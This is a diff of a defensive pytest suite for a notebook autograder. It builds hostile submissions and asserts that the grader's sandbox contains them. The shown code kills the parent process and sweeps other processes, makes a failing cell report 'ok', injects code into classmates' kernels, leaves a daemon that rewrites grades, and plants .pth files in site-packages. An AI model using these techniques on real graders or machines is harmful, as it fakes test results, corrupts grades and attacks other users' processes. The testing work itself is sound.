+
+
+def attack_kill_parent(kit: Kit):
+    """Kill the process that runs the kernel (SIGKILL to the parent), then every process /proc shows.
+
+    The sweep is held back where the kernel can see the world outside a sandbox (the test run, the
+    grader or its workers, a process with the grader's environment): it then only notes what it
+    could have killed, in an evidence file outside the course (which a sandbox makes unwritable).
+    So a grader that only claims to sandbox cannot take the machine down. Implements nothing.
+    """
+    nb = nbformat.from_dict(kit.release)
+    insert_after_imports(nb, code('''
+        import glob
+        import os
+        import signal
+
+        EVIDENCE = __EVIDENCE__
+        me, parent = os.getpid(), os.getppid()
+        could, outside = [], []
+        for entry in glob.glob("/proc/[0-9]*"):
+            pid = int(entry.rsplit("/", 1)[1])
+            if pid in (me, parent):
+                continue
+            try:
+                os.kill(pid, 0)
+            except OSError:
+                continue
+            try:
+                with open(entry + "/cmdline", "rb") as fh:
+                    cmdline = fh.read(300).replace(b"\\0", b" ").decode(errors="replace")
+                with open(entry + "/environ", "rb") as fh:
+                    grader_env = b"CNNKIT_CANARY=" in fh.read()
+            except OSError:
+                cmdline, grader_env = "?", False
+            kind = ("pytest" if "pytest" in cmdline else "grader" if " cnnkit grade " in cmdline
+                    else "worker" if "cnnkit.grading.worker" in cmdline else "grader-env" if grader_env else "other")
+            could.append((pid, kind))
+            if kind != "other":
+                outside.append((pid, kind))
+        print(len(could), "other processes could be signalled;", len(outside), "of them outside any sandbox")
+        try:
+            with open(EVIDENCE, "w") as fh:
+                fh.writelines(f"{pid}\\t{kind}\\n" for pid, kind in could)
+        except OSError as exc:
+            print("no evidence written:", type(exc).__name__)
+        try:
+            os.kill(parent, signal.SIGKILL)
+            print("killed my parent", parent)
+        except OSError as exc:
+            print("could not kill my parent", parent, exc)
+        if not outside:  # only sandbox processes in sight: kill them all
+            for pid, _ in could:
+                try:
+                    os.kill(pid, signal.SIGKILL)
+                except OSError:
+                    pass
+    ''', evidence=str(kit.evidence / "kill_parent.txt")))
+    return nb
+
+
+def attack_hide_errors(kit: Kit):
+    """Nothing implemented, but the kernel is rewired so that no cell ever fails: exceptions are
+    swallowed (no traceback, no error output) and every execute_reply says "ok", so a failing test
+    cell looks exactly like a passing one to a grader that reads the kernel's messages."""
+    nb = nbformat.from_dict(kit.release)
+    insert_after_imports(nb, code('''
+        import inspect
+
+
+        def _swallow(shell, etype, evalue, tb, tb_offset=None):
+            return None
+
+
+        _shell = get_ipython()
+        _shell.set_custom_exc((BaseException,), _swallow)
+        _shell._showtraceback = lambda *args, **kwargs: None  # not even an empty error message
+        _shell.showtraceback = lambda *args, **kwargs: None
+        _do_execute = _shell.kernel.do_execute
+
+
+        async def _always_ok(*args, **kwargs):
+            reply = _do_execute(*args, **kwargs)
+            if inspect.isawaitable(reply):
+                reply = await reply
+            if reply.get("status") != "ok":
+                reply = {"status": "ok", "execution_count": reply.get("execution_count"), "user_expressions": {},
+                         "payload": []}
+            return reply
+
+
+        _shell.kernel.do_execute = _always_ok
+    '''))
+    return nb
+
+
+def attack_hijack_kernel(kit: Kit):
+    """Find the classmates' kernels graded at the same time (connection files in the Jupyter runtime
+    folder, in /tmp, on /proc/*/cmdline) and run code in them: it leaves a marker file next to
+    their notebooks. Keeps looking for 30 seconds. Implements nothing itself."""
+    nb = nbformat.from_dict(kit.release)
+    insert_after_imports(nb, code('''
+        import glob
+        import os
+        import queue
+        import time
+
+        THIS_RUN_ONLY = __THIS_RUN_ONLY__  # no sandbox: only this grading run's kernels
+        MARK = "HIJACK" + "ED-" + __TOKEN__
+        # harmless in any kernel that is not being graded (say, an instructor's own notebook)
+        INJECT = f"import os\\nif os.environ.get('NBGRADER_EXECUTION'):\\n    open('hijacked_by_a_classmate.txt', 'w').write({MARK!r})"
+        try:
+            from ipykernel.connect import get_connection_file
+            from jupyter_client import BlockingKernelClient
+            from jupyter_core.paths import jupyter_runtime_dir
+            mine = os.path.realpath(get_connection_file())
+            places = {jupyter_runtime_dir(), os.path.expanduser("~/.local/share/jupyter/runtime"), "/tmp",
+                      __HOME__ + "/.local/share/jupyter/runtime", os.environ.get("JUPYTER_RUNTIME_DIR", "")}
+            if THIS_RUN_ONLY:  # no sandbox: only the connection files named on this run's kernels' command lines
+                places = set()
+        except Exception as exc:
+            print("no Jupyter client here:", repr(exc))
+            BlockingKernelClient, mine, places = None, None, set()
+
+
+        def _connection_files():
+            found = set()
+            for place in places:
+                if place:
+                    found |= set(glob.glob(os.path.join(place, "kernel-*.json")))
+            for path in glob.glob("/proc/[0-9]*/cmdline"):
+                try:
+                    argv = open(path, "rb").read().split(b"\\0")
+                    if THIS_RUN_ONLY and b"CNNKIT_CANARY=" not in open(path[:-7] + "environ", "rb").read():
+                        continue
+                except OSError:
+                    continue
+                found |= {argv[i + 1].decode(errors="replace") for i, arg in enumerate(argv[:-1]) if arg == b"-f"}
+            return {os.path.realpath(f) for f in found if f.endswith(".json")}
+
+
+        tried, hits = set(), []
+        deadline = time.monotonic() + 30
+        while BlockingKernelClient is not None and time.monotonic() < deadline:
+            for path in sorted(_connection_files() - tried - {mine}):
+                tried.add(path)
+                try:
+                    client = BlockingKernelClient()
+                    client.load_connection_file(path)
+                    client.start_channels()
+                except Exception:
+                    continue
+                try:
+                    msg_id = client.execute(INJECT, store_history=False)
+                    until = time.monotonic() + 10
+                    while time.monotonic() < until:
+                        try:
+                            reply = client.get_shell_msg(timeout=1)
+                        except queue.Empty:
+                            continue
+                        if reply["parent_header"].get("msg_id") == msg_id:
+                            hits.append((path, reply["content"].get("status")))
+                            break
+                finally:
+                    client.stop_channels()
+            time.sleep(0.3)
+        print("kernels tried:", len(tried), "code run in:", hits)
+    ''', token=kit.marks["hijack"], home=str(kit.home),
+        this_run_only=not kit.full_strength))
+    return nb
+
+
+def attack_lurker(kit: Kit):
+    """Leave a process behind (double fork, new session, a new name) that outlives grading: it waits
+    for the grading report and rewrites its own row to full marks. Implements nothing."""
+    nb = nbformat.from_dict(kit.release)
+    insert_after_imports(nb, COURSE_FINDER + code('''
+        import csv
+        import ctypes
+        import io
+        import time
+
+        NAME = __NAME__
+
+
+        def _course_root():
+            here = Path.cwd().resolve()
+            for folder in [here, *here.parents]:
+                if (folder / "nbgrader_config.py").exists() and not _protected(folder):
+                    return folder
+            return None
+
+
+        def _lurk(root, seconds=120):
+            ctypes.CDLL(None).prctl(15, NAME.encode(), 0, 0, 0)  # PR_SET_NAME
+            deadline = time.monotonic() + seconds
+            while time.monotonic() < deadline:
+                report = root / "grading_report_a1_convolution.csv" if root else None
+                try:
+                    rows = list(csv.reader(io.StringIO(report.read_text()))) if report else []
+                except OSError:
+                    rows = []
+                changed = False
+                for row in rows[1:]:
+                    if row and row[0] == "lurker" and row[1] != row[2]:
+                        row[1], row[3], row[4] = row[2], "graded", ""
+                        changed = True
+                if changed:
+                    out = io.StringIO()
+                    csv.writer(out, lineterminator="\\n").writerows(rows)
+                    try:
+                        report.write_text(out.getvalue())
+                    except OSError:
+                        pass
+                time.sleep(0.2)
+
+
+        root = _course_root()
+        pid = os.fork()
+        if pid == 0:
+            try:
+                os.setsid()
+                if os.fork() == 0:
+                    devnull = os.open(os.devnull, os.O_RDWR)
+                    for fd in (0, 1, 2):
+                        os.dup2(devnull, fd)
+                    os.closerange(3, 4096)
+                    _lurk(root)
+            finally:
+                os._exit(0)
+        os.waitpid(pid, 0)
+        print("a helper stays behind")
+    ''', name=kit.marks["lurker"]))
+    return nb
+
+
+def attack_poison_site(kit: Kit):
+    """Plant a file where Python looks at every start (site-packages, sys.path, the kit's own folder):
+    a ``.pth`` file there runs code in every later Python process, the instructor's included. Here
+    it is a harmless comment line. Implements nothing."""
+    nb = nbformat.from_dict(kit.release)
+    limit_to = None if kit.full_strength else sorted(str(p) for p in site_dirs(kit.home))
+    insert_after_imports(nb, code('''
+        import os
+        import site
+        import sys
+        import sysconfig
+
+        NAME = __NAME__
+        LIMIT_TO = __LIMIT__   # None: anywhere; a list: only there (no sandbox: never the test checkout)
+        places = set(site.getsitepackages()) | {site.getusersitepackages()}
+        places |= {sysconfig.get_paths()[key] for key in ("purelib", "platlib")}
+        places |= {p for p in sys.path if p and os.path.isabs(p) and os.path.isdir(p)}
+        try:
+            import cnnkit
+            places.add(os.path.dirname(cnnkit.__file__))
+        except Exception:
+            pass
+        for place in sorted(places):
+            if LIMIT_TO is not None and os.path.realpath(place) not in LIMIT_TO:
+                continue
+            try:
+                os.makedirs(place, exist_ok=True)
+                with open(os.path.join(place, NAME), "w") as fh:
+                    fh.write("# written by a student notebook while it was graded\\n")
+                print("planted", os.path.join(place, NAME))
+            except OSError as exc:
+                print("cannot write in", place, type(exc).__name__)
+    ''', name=kit.marks["site_file"], limit=limit_to))
+    return nb
+
+
+def attack_leak_hidden(kit: Kit):
+    """After the tests ran, print the kernel's input history (the hidden tests included, if they ran
+    in this kernel) and the test cells of the notebook file being executed, and save them in a file
+    next to the notebook, so the feedback shows what the tests hide. Implements nothing."""
+    nb = nbformat.from_dict(kit.release)
+    append_code(nb, code('''
+        import json
+        import os
+
+        seen = [entry for entry in globals().get("In", []) if "integrity" in entry]
+        for name in os.listdir("."):
+            if name.endswith(".ipynb"):
+                try:
+                    cells = json.load(open(name))["cells"]
+                except Exception:
+                    continue
+                for cell in cells:
+                    source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+                    if "integrity" in source:
+                        seen.append(source)
+        print("\\n\\n".join(seen))
+        with open("what_the_tests_hide.txt", "w") as fh:
+            fh.write("\\n\\n".join(seen))
+    '''))
+    return nb
+
+
+CONTROLS: dict[str, Callable] = {"honest": honest, "untouched": untouched, "wrong": wrong, "conv2d_none": conv2d_none}
+ATTACKS: dict[str, Callable] = {
+    "patch_testing": attack_patch_testing,
+    "null_forbid": attack_null_forbid,
+    "read_solutions": attack_read_solutions,
+    "vandal": attack_vandal,
+    "env_leak": attack_env_leak,
+    "proc_snoop": attack_proc_snoop,
+    "symlink_escape": attack_symlink_escape,
+    "cache_write": attack_cache_write,
+    "self_grade": attack_self_grade,
+    "forged_outputs": attack_forged_outputs,
+    "network": attack_network,
+    "fork_bomb": attack_fork_bomb,
+    "memory_bomb": attack_memory_bomb,
+    "patch_builtins": attack_patch_builtins,
+    "kill_parent": attack_kill_parent,
+    "hide_errors": attack_hide_errors,
+    "hijack_kernel": attack_hijack_kernel,
+    "lurker": attack_lurker,
+    "poison_site": attack_poison_site,
+    "leak_hidden": attack_leak_hidden,
+}
+
+
+# ----------------------------------------------------------------------------------------- the run
+def site_dirs(home: Path) -> set[Path]:
+    """Where a Python of this environment reads .pth files: site-packages, and the user site in ``home``."""
+    dirs = {Path(p) for p in site.getsitepackages()}
+    dirs |= {Path(sysconfig.get_paths()[key]) for key in ("purelib", "platlib")}
+    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
+    dirs.add(home / ".local" / "lib" / version / "site-packages")
+    return {Path(os.path.realpath(d)) for d in dirs}
+
+
+def sha256(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def snapshot(root: Path) -> dict[str, str]:
+    """Every entry under ``root`` (symlinks not followed): sha256 of files, targets of links."""
+    found: dict[str, str] = {}
+    if not root.exists():
+        return found
+    for top, dirs, files in os.walk(root):
+        for name in dirs + files:
+            path = Path(top, name)
+            rel = str(path.relative_to(root))
+            if path.is_symlink():
+                found[rel] = "link -> " + os.readlink(path)
+            elif path.is_file():
+                found[rel] = sha256(path)
+    return found
+
+
+def files_under(root: Path) -> list[Path]:
+    """Regular files under ``root``, symlinks neither listed nor followed."""
+    out = []
+    if not root.exists():
+        return out
+    for top, _, files in os.walk(root):
+        out += [Path(top, name) for name in files if not Path(top, name).is_symlink() and Path(top, name).is_file()]
+    return out
+
+
+def readable_text(path: Path) -> str:
+    """A file's text as a reader sees it (HTML entities decoded)."""
+    text = path.read_bytes().decode("utf-8", errors="replace")
+    return html.unescape(text) if path.suffix == ".html" else text
+
+
+class Listener:
+    """A TCP server on 127.0.0.1 in a thread: it notes every connection (no student should make one)."""
+
+    def __init__(self):
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(16)
+        self.sock.settimeout(0.5)
+        self.port = self.sock.getsockname()[1]
+        self.seen: list = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self):
+        while not self._stop.is_set():
+            try:
+                conn, addr = self.sock.accept()
+            except (socket.timeout, OSError):
+                continue
+            self.seen.append(addr)
+            conn.close()
+
+    def close(self):
+        self._stop.set()
+        self._thread.join(timeout=5)
+        self.sock.close()
+
+
+@dataclass
+class Run:
+    """The class, its one grading run, and what the run left behind."""
+
+    course: Path
+    home: Path
+    data: Path
+    evidence: Path
+    students: list
+    tokens: dict
+    marks: dict
+    full_strength: bool
+    max_score: float
+    hidden_lines: list
+    before: dict
+    returncode: int = -1
+    stdout: str = ""
+    stderr: str = ""
+    seconds: float = 0.0
+    report: dict = field(default_factory=dict)
+    report_text: str = ""
+    report_text_later: str = ""
+    grades: list = field(default_factory=list)
+    connections: list = field(default_factory=list)
+    survivors: list = field(default_factory=list)
+
+    def require(self, student: str) -> None:
+        if student not in self.students:
+            pytest.skip(f"{student} is not in CNNKIT_ATTACKS_ONLY")
+
+    def row(self, student: str) -> dict:
+        self.require(student)
+        assert student in self.report, (
+            f"{student} has no row in grading_report_{ASSIGNMENT}.csv (grader exit {self.returncode})\n"
+            f"{self.stderr[-3000:]}")
+        return self.report[student]
+
+    def score(self, student: str) -> float:
+        return float(self.row(student)["score"])
+
+    def csv_score(self, student: str) -> float | None:
+        rows = [r for r in self.grades if r.get("student_id") == student and r.get("assignment") == ASSIGNMENT]
+        return float(rows[0]["score"]) if len(rows) == 1 else None
+
+    def files(self, student: str, kinds=("autograded", "feedback")) -> list[Path]:
+        return [p for kind in kinds for p in files_under(self.course / kind / student)]
+
+    def where(self, needle: str, student: str | None = None, kinds=("autograded", "feedback")) -> list[str]:
+        """Files (relative to the course) of ``student`` (or everyone) whose text contains ``needle``."""
+        roots = [self.course / kind / student for kind in kinds] if student else [self.course / k for k in kinds]
+        hits = []
+        for root in roots:
+            for path in files_under(root):
+                if needle in readable_text(path):
+                    hits.append(str(path.relative_to(self.course)))
+        return hits
+
+    def limited(self, student: str) -> bool:
+        """The report says this submission ran into a limit (a status or a detail naming one)."""
+        row = self.row(student)
+        text = f"{row['status']} {row['detail']}".lower()
+        return row["status"] != "graded" or any(word in text for word in LIMIT_WORDS)
+
+
+def _selected_attacks(full_strength: bool) -> list[str]:
+    only = [s.strip() for s in os.environ.get("CNNKIT_ATTACKS_ONLY", "").split(",") if s.strip()]
+    unknown = sorted(set(only) - set(ATTACKS))
+    if unknown:
+        raise ValueError(f"CNNKIT_ATTACKS_ONLY names unknown attacks {unknown}; known: {sorted(ATTACKS)}")
+    chosen = only or list(ATTACKS)
+    if not full_strength and "memory_bomb" in chosen:
+        try:
+            overcommit = Path("/proc/sys/vm/overcommit_memory").read_text().strip()
+        except OSError:
+            overcommit = "?"
+        if overcommit == "1":  # every allocation succeeds: np.ones(50 GB) would really fill the memory
+            chosen.remove("memory_bomb")
+    return chosen
+
+
+def _hidden_only_lines(source_nb, release_nb) -> list[str]:
+    """Lines that exist only in hidden tests (not in anything a student is shown)."""
+    public = {line.strip() for cell in release_nb.cells for line in cell.source.splitlines()}
+    hidden = {line.strip() for cell in source_nb.cells
+              for line in regions(cell.source, "### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS")}
+    return sorted(line for line in hidden - public if len(line) > 12)
+
+
+def _processes_left(token: str, name: str) -> list[tuple[int, str]]:
+    """Processes of this run still alive: the canary in their environment, or the lurker's name."""
+    left = []
+    for entry in Path("/proc").glob("[0-9]*"):
+        pid = int(entry.name)
+        if pid == os.getpid():
+            continue
+        try:
+            comm = (entry / "comm").read_text().strip()
+            environ = (entry / "environ").read_bytes() if comm != name else b""
+        except OSError:
+            continue
+        if comm == name or token.encode() in environ:
+            try:
+                cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")[:200]
+            except OSError:
+                cmdline = "?"
+            left.append((pid, f"{comm}: {cmdline}"))
+    return left
+
+
+def _read_report(course: Path) -> tuple[str, dict]:
+    path = course / f"grading_report_{ASSIGNMENT}.csv"
+    try:
+        text = path.read_text()
+    except OSError:
+        return "", {}
+    return text, {row["student"]: row for row in csv.DictReader(text.splitlines())}
+
+
+@pytest.fixture(scope="module")
+def run(tmp_path_factory) -> Run:
+    """Build the course and the class, plant the canaries, grade everyone once, record the aftermath."""
+    usable, reason = sandbox_state()
+    if not usable and not FORCE:
+        pytest.skip(reason)
+    full_strength = usable
+    base = tmp_path_factory.mktemp("attacks")
+    course, home, data, evidence = base / "course", base / "home", base / "data", base / "evidence"
+    for folder in (course, home, data, evidence):
+        folder.mkdir()
+    # a small, explicit environment: what an instructor's shell would pass, and nothing of this machine's
+    env = {name: os.environ[name] for name in ENV_KEPT if name in os.environ}
+    env.update(PATH=f"{BIN}{os.pathsep}{os.environ.get('PATH', '/usr/bin:/bin')}", MPLBACKEND="Agg",
+               CNNKIT_SIZE="small")
+
+    # the course, released as an instructor does it
+    shutil.copy(REPO / "nbgrader_config.py", course / "nbgrader_config.py")
+    shutil.copytree(REPO / "solutions", course / "solutions")
+    done = subprocess.run([sys.executable, "-m", "nbgrader", "generate_assignment", ASSIGNMENT, "--force"],
+                          cwd=course, env=dict(env, HOME=str(home)), capture_output=True, text=True, timeout=300)
+    assert done.returncode == 0, f"nbgrader generate_assignment failed:\n{done.stdout[-2000:]}\n{done.stderr[-3000:]}"
+    source_nb = nbformat.read(course / "solutions" / ASSIGNMENT / NOTEBOOK, as_version=4)
+    release_nb = nbformat.read(course / "assignments" / ASSIGNMENT / NOTEBOOK, as_version=4)
+    max_score = float(sum(nbg(c).get("points", 0) for c in source_nb.cells if nbg(c).get("grade")))
+
+    # canaries: secrets the student must never see, and markers an attack would leave behind
+    tokens = {
+        "env": "CANARY-" + secrets.token_hex(12),
+        "course_secret": "COURSE-SECRET-" + secrets.token_hex(12),
+        "home_secret": "HOME-SECRET-" + secrets.token_hex(12),
+        "data": "DATA-CANARY-" + secrets.token_hex(12),
+    }
+    run_id = secrets.token_hex(4)
+    marks = {"hijack": secrets.token_hex(8), "lurker": f"lurk{run_id}",
+             "site_file": f"zz_cnnkit_attack_{run_id}.pth"}
+    (course / "instructor_secret.txt").write_text(tokens["course_secret"] + "\n")
+    (home / "instructor_secret.txt").write_text(tokens["home_secret"] + "\n")
+    (data / "canary.txt").write_text(tokens["data"] + "\n")
+    (data / "mnist").mkdir()
+    (data / "mnist" / "train.npz").write_bytes(b"not really mnist " + tokens["data"].encode())
+    (home / ".cache" / "cnnkit").mkdir(parents=True)
+    (home / ".cache" / "cnnkit" / "canary.txt").write_text(tokens["data"] + "\n")
+
+    listener = Listener()
+    kit = Kit(source_nb, release_nb, listener.port, home, data, evidence, marks, full_strength)
+    students = list(CONTROLS) + _selected_attacks(full_strength)
+    for student in students:
+        folder = course / "submitted" / student / ASSIGNMENT
+        folder.mkdir(parents=True)
+        (folder / "timestamp.txt").write_text(TIMESTAMP)
+        handin = (CONTROLS.get(student) or ATTACKS[student])(kit)
+        if callable(handin):
+            handin(folder)
+        else:
+            nbformat.write(handin, folder / NOTEBOOK)
+
+    r = Run(course=course, home=home, data=data, evidence=evidence, students=students, tokens=tokens, marks=marks,
+            full_strength=full_strength, max_score=max_score, hidden_lines=_hidden_only_lines(source_nb, release_nb),
+            before={"submitted": snapshot(course / "submitted"), "solutions": snapshot(course / "solutions"),
+                    "data": snapshot(data), "home_cache": snapshot(home / ".cache" / "cnnkit"),
+                    "course_secret": sha256(course / "instructor_secret.txt"),
+                    "home_secret": sha256(home / "instructor_secret.txt")})
+
+    # the one grading run, as an instructor types it
+    grade_env = dict(env, HOME=str(home), CNNKIT_DATA=str(data), CNNKIT_CANARY=tokens["env"])
+    command = [sys.executable, "-m", "cnnkit", "grade", ASSIGNMENT, "--course", str(course), "--jobs", "2",
+               "--cell-timeout", "60", "--timeout", "600"]
+    if not usable:  # CNNKIT_ATTACKS_FORCE without a sandbox: a grader that refuses to run unsandboxed is told to
+        helptext = subprocess.run(command[:4] + ["--help"], env=grade_env, capture_output=True, text=True).stdout
+        if "--unsandboxed" in helptext:
+            command.append("--unsandboxed")
+    start = time.monotonic()
+    proc = subprocess.Popen(command, cwd=course, env=grade_env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                            text=True, start_new_session=True)
+    try:
+        r.stdout, r.stderr = proc.communicate(timeout=900)
+    except subprocess.TimeoutExpired:
+        os.killpg(proc.pid, signal.SIGKILL)
+        r.stdout, r.stderr = proc.communicate()
+        r.stderr += "\n[test] the grader ran past 900 s and was killed"
+    r.returncode, r.seconds = proc.returncode, time.monotonic() - start
+    r.report_text, r.report = _read_report(course)
+    time.sleep(SETTLE_SECONDS)
+    r.survivors = _processes_left(tokens["env"], marks["lurker"])
+    for pid, _ in r.survivors:  # started by this run's students: stop them
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+    r.report_text_later, _ = _read_report(course)
+    listener.close()
+    r.connections = list(listener.seen)
+    try:
+        with open(course / "grades.csv", newline="") as fh:
+            r.grades = list(csv.DictReader(fh))
+    except OSError:
+        r.grades = []
+    print(f"grading run: exit {r.returncode} in {r.seconds:.0f} s ({'sandboxed' if usable else 'NO SANDBOX'})")
+    print(r.stdout[-6000:])
+    yield r
+    # anything planted outside the temporary folders goes (only files named with this run's token)
+    for folder in site_dirs(home) | {REPO, REPO / "cnnkit"}:
+        (folder / marks["site_file"]).unlink(missing_ok=True)
+
+
+# ----------------------------------------------------------------------------------------- the whole class
+def test_grader_finishes_without_a_traceback(run):
+    assert run.returncode in (0, 1), f"grader exit {run.returncode}\n{run.stderr[-4000:]}"
+    assert "Traceback (most recent call last)" not in run.stderr, run.stderr[-4000:]
+    assert set(run.report) == set(run.students), (sorted(set(run.students) - set(run.report)),
+                                                  sorted(set(run.report) - set(run.students)))
+    errors = [s for s, row in run.report.items() if row["status"] == "error"]
+    assert (run.returncode == 1) == bool(errors), (run.returncode, errors)
+
+
+def test_every_submission_ran_in_the_sandbox(run):
+    """No silent fall-back: where a sandbox is available, no report row may say the code ran without it."""
+    if not run.full_strength:
+        pytest.skip("forced run without a sandbox (CNNKIT_ATTACKS_FORCE)")
+    unsandboxed = {s: row.get("sandbox") for s, row in run.report.items()
+                   if "unsandboxed" in f"{row.get('sandbox', '')} {row['detail']}".lower()}
+    assert not unsandboxed, unsandboxed
+
+
+def test_controls_get_their_scores_in_the_same_run(run):
+    got = {student: run.score(student) for student in CONTROL_SCORES}
+    assert got == CONTROL_SCORES, got
+    assert run.row("honest")["status"] == "graded", run.row("honest")
+
+
+def test_every_student_has_a_row_with_the_assignment_max(run):
+    maxima = {student: float(run.row(student)["max_score"]) for student in run.students}
+    assert set(maxima.values()) == {run.max_score}, maxima
+    missing = [s for s in run.students if run.csv_score(s) is None]
+    assert not missing, f"not in grades.csv (or twice): {missing}"
+    for student in run.students:
+        assert run.csv_score(student) == run.score(student), (student, run.csv_score(student), run.score(student))
+
+
+def test_solutions_are_unchanged(run):
+    assert snapshot(run.course / "solutions") == run.before["solutions"]
+
+
+def test_every_handin_is_byte_identical(run):
+    now = snapshot(run.course / "submitted")
+    changed = sorted(k for k in set(now) | set(run.before["submitted"]) if now.get(k) != run.before["submitted"].get(k))
+    assert not changed, changed[:20]
+
+
+def test_canaries_are_unchanged_and_never_leak(run):
+    assert sha256(run.course / "instructor_secret.txt") == run.before["course_secret"]
+    assert sha256(run.home / "instructor_secret.txt") == run.before["home_secret"]
+    assert snapshot(run.data) == run.before["data"]
+    leaks = {name: run.where(token) for name, token in run.tokens.items()}
+    assert not any(leaks.values()), {name: hits for name, hits in leaks.items() if hits}
+
+
+def test_no_student_process_outlives_the_grader(run):
+    assert not run.survivors, run.survivors
+
+
+# ----------------------------------------------------------------------------------------- one attack each
+def test_patch_testing_scores_no_more_than_plain_wrong_code(run):
+    assert run.score("patch_testing") <= run.score("wrong"), run.row("patch_testing")
+
+
+def test_null_forbid_earns_nothing_for_the_functions_it_delegates(run):
+    assert run.score("null_forbid") <= 4.0, run.row("null_forbid")
+
+
+def test_read_solutions_finds_nothing_to_copy(run):
+    assert run.score("read_solutions") == 0.0, run.row("read_solutions")
+    hits = run.where("### BEGIN SOLUTION", "read_solutions") + run.where("### BEGIN SOLUTION")
+    assert not hits, hits
+
+
+def test_vandal_cannot_hurt_the_class(run):
+    run.require("vandal")
+    now = snapshot(run.course / "submitted")
+    others = {k: v for k, v in run.before["submitted"].items() if not k.startswith("vandal/")}
+    assert {k: now.get(k) for k in others} == others, "a classmate's hand-in was changed or deleted"
+    assert snapshot(run.course / "solutions") == run.before["solutions"], "solutions/ was changed"
+    assert sqlite_ok(run.course / "gradebook.db"), "the gradebook was damaged"
+    assert all(run.csv_score(s) is not None for s in run.students), "grades.csv lost students"
+    for student, expected in CONTROL_SCORES.items():
+        assert run.score(student) == expected, (student, run.row(student))
+        assert (run.course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").exists(), student
+    assert run.score("vandal") == 0.0
+
+
+def sqlite_ok(path: Path) -> bool:
+    import sqlite3
+
+    try:
+        con = sqlite3.connect(path)
+        try:
+            return con.execute("PRAGMA integrity_check").fetchone()[0] == "ok" and bool(
+                con.execute("SELECT count(*) FROM grade").fetchone()[0])
+        finally:
+            con.close()
+    except sqlite3.Error:
+        return False
+
+
+def test_env_leak_sees_no_grader_environment(run):
+    run.require("env_leak")
+    own = run.where(run.tokens["env"], "env_leak")
+    assert not own, f"env_leak shows the grader's environment in {own}"
+    anywhere = run.where(run.tokens["env"])
+    assert not anywhere, f"the grader's environment reached {anywhere}"
+    assert run.score("env_leak") == 0.0
+
+
+def test_proc_snoop_sees_no_other_process(run):
+    run.require("proc_snoop")
+    assert run.score("proc_snoop") == 0.0, run.row("proc_snoop")
+    assert not run.where(run.tokens["env"], "proc_snoop")
+    for path in {str(run.course), os.path.realpath(run.course)}:
+        hits = run.where(path, "proc_snoop", kinds=("feedback",))
+        assert not hits, f"the course folder {path} shows in {hits}"
+
+
+def test_symlink_escape_reads_and_writes_nothing_outside(run):
+    run.require("symlink_escape")
+    honest_before = {k: v for k, v in run.before["submitted"].items() if k.startswith("honest/")}
+    honest_now = {k: v for k, v in snapshot(run.course / "submitted").items() if k.startswith("honest/")}
+    assert honest_now == honest_before, "the honest student's hand-in was changed"
+    for name in ("course_secret", "home_secret"):
+        hits = run.where(run.tokens[name])
+        assert not hits, f"{name} leaked into {hits}"
+    assert run.score("symlink_escape") == 0.0
+    assert run.score("honest") == AUTO_POINTS
+
+
+def test_cache_write_leaves_the_data_cache_alone(run):
+    run.require("cache_write")
+    assert snapshot(run.data) == run.before["data"], "the data-set cache ($CNNKIT_DATA) changed"
+    assert snapshot(run.home / ".cache" / "cnnkit") == run.before["home_cache"], "~/.cache/cnnkit changed"
+    assert run.score("cache_write") == 0.0
+
+
+def test_self_grade_gets_zero(run):
+    assert run.score("self_grade") == 0.0, run.row("self_grade")
+    assert run.csv_score("self_grade") == 0.0, "grades.csv shows a self-given score"
+    assert float(run.row("self_grade")["max_score"]) == run.max_score
+    assert run.score("honest") == AUTO_POINTS
+
+
+def test_forged_outputs_score_no_more_than_plain_wrong_code(run):
+    row = run.row("forged_outputs")
+    assert float(row["score"]) <= run.score("wrong"), row
+    assert float(row["max_score"]) == run.max_score, row
+
+
+def test_network_reaches_nothing(run):
+    run.require("network")
+    assert not run.connections, f"the listener on 127.0.0.1 was reached from {run.connections}"
+    assert not run.where("NETWORK-REACHED", "network"), run.where("NETWORK-REACHED", "network")
+    assert run.score("network") == 0.0
+
+
+def test_fork_bomb_is_contained_and_reported(run):
+    assert run.score("fork_bomb") == 0.0, run.row("fork_bomb")
+    assert run.limited("fork_bomb"), f"no limit reported: {run.row('fork_bomb')}"
+    assert run.score("honest") == AUTO_POINTS
+
+
+def test_memory_bomb_is_contained_and_reported(run):
+    assert run.score("memory_bomb") == 0.0, run.row("memory_bomb")
+    assert run.limited("memory_bomb"), f"no limit reported: {run.row('memory_bomb')}"
+    assert run.score("honest") == AUTO_POINTS
+
+
+def test_patch_builtins_gains_nothing(run):
+    assert run.score("patch_builtins") <= run.score("conv2d_none"), run.row("patch_builtins")
+
+
+def test_kill_parent_hurts_only_itself(run):
+    row = run.row("kill_parent")
+    assert float(row["score"]) == 0.0, row
+    assert run.returncode in (0, 1)
+    for student, expected in CONTROL_SCORES.items():
+        assert run.score(student) == expected, (student, run.row(student))
+    evidence = run.evidence / "kill_parent.txt"
+    if evidence.exists():  # the kernel could write outside its sandbox: it notes whom it could have killed
+        could = dict(line.split("\t") for line in evidence.read_text().splitlines())
+        assert str(os.getpid()) not in could, "the student could have killed the test run itself"
+        outside = sorted({kind for kind in could.values() if kind != "other"})
+        assert not outside, f"the student could have killed processes outside its sandbox: {outside}"
+
+
+def test_hide_errors_earns_nothing(run):
+    assert run.score("hide_errors") == 0.0, run.row("hide_errors")
+
+
+def test_hijack_kernel_reaches_no_classmate(run):
+    run.require("hijack_kernel")
+    mark = "HIJACKED-" + run.marks["hijack"]
+    hits = [h for h in run.where(mark) if not h.split(os.sep)[1] == "hijack_kernel"]
+    assert not hits, f"code ran in a classmate's kernel: {hits}"
+    assert run.score("hijack_kernel") == 0.0
+
+
+def test_lurker_leaves_nothing_behind(run):
+    run.require("lurker")
+    assert not [s for s in run.survivors if run.marks["lurker"] in s[1]], run.survivors
+    assert run.report_text_later == run.report_text, "the grading report changed after the grader returned"
